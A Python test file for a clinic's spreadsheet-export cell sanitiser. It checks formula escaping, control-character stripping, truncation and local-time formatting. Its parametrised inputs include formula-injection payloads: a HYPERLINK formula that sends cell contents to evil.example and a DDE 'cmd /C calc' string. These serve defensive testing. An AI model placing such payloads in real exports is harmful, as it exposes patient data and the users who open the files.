"""What a cell holds: texts that nothing reckons out, numbers as they are, days and hours by the clinic's clocks."""

from __future__ import annotations

from datetime import UTC, date, datetime, time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from clinic.exports.cells import LONGEST, defused, in_words, local, text

DANGEROUS = tuple("=+-@\t\r＝＋－＠")


@pytest.mark.parametrize(
    "hostile",
    [
        '=HYPERLINK("https://evil.example/?"&A2)',
        "=1+1",
        "+1+1",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(A1:A9)",
        "＝1＋1",
        "-2-3",
        "+447700900123+1",
        "=",
        "-",
    ],
)
def test_what_looks_like_a_formula_has_an_apostrophe_before_it(hostile: str) -> None:
    assert defused(hostile) == f"'{hostile}"


@pytest.mark.parametrize(
    "sound",
    [
        "+447700900123",
        "+44 7700 900123",
        "-1",
        "-3.5",
        "",
        "Ana",
        "a=b",
        "2026-03-02",
        "ana@example.org",
        "– none",
        "'=1",
    ],
)
def test_numbers_and_plain_words_stay_as_they_are(sound: str) -> None:
    assert defused(sound) == sound


@given(st.text())
def test_no_text_begins_as_a_formula_and_none_is_lost(content: str) -> None:
    cell = defused(text(content))
    assert not cell.startswith(DANGEROUS) or cell[1:].replace(" ", "").replace(".", "", 1).isdecimal()
    assert cell.removeprefix("'") == text(content).removeprefix("'")
    assert len(text(content)) <= LONGEST
    assert "\n" not in cell and "\r" not in cell and "\t" not in cell and "\0" not in cell


def test_a_text_is_on_one_line_without_what_no_cell_may_hold() -> None:
    assert text("Rang\r\n twice.\x0b\u202eevil\ufeff ") == "Rang twice. evil"
    assert text("نام\u200cها") == "نام\u200cها"
    assert text("x" * 40_000) == "x" * (LONGEST - 1) + "…"


@pytest.mark.parametrize(
    ("value", "words"),
    [
        (None, ""),
        (True, "yes"),
        (False, "no"),
        (0, "0"),
        (-12, "-12"),
        (date(2026, 3, 2), "2026-03-02"),
        (datetime(2026, 7, 1, 22, 59, 59, tzinfo=UTC), "2026-07-01 23:59"),
        (datetime(2026, 7, 1, 23, 0, tzinfo=UTC), "2026-07-02 00:00"),
        (time(19, 30), "19:30"),
        (" a  b ", "a b"),
    ],
)
def test_a_value_in_words(value: object, words: str) -> None:
    assert in_words(value, "Europe/London") == words  # type: ignore[arg-type]


def test_a_moment_is_by_the_clinics_clocks() -> None:
    moment = datetime(2026, 1, 1, 3, 0, 30, tzinfo=UTC)
    assert local(moment, "America/New_York") == datetime(2025, 12, 31, 22, 0)
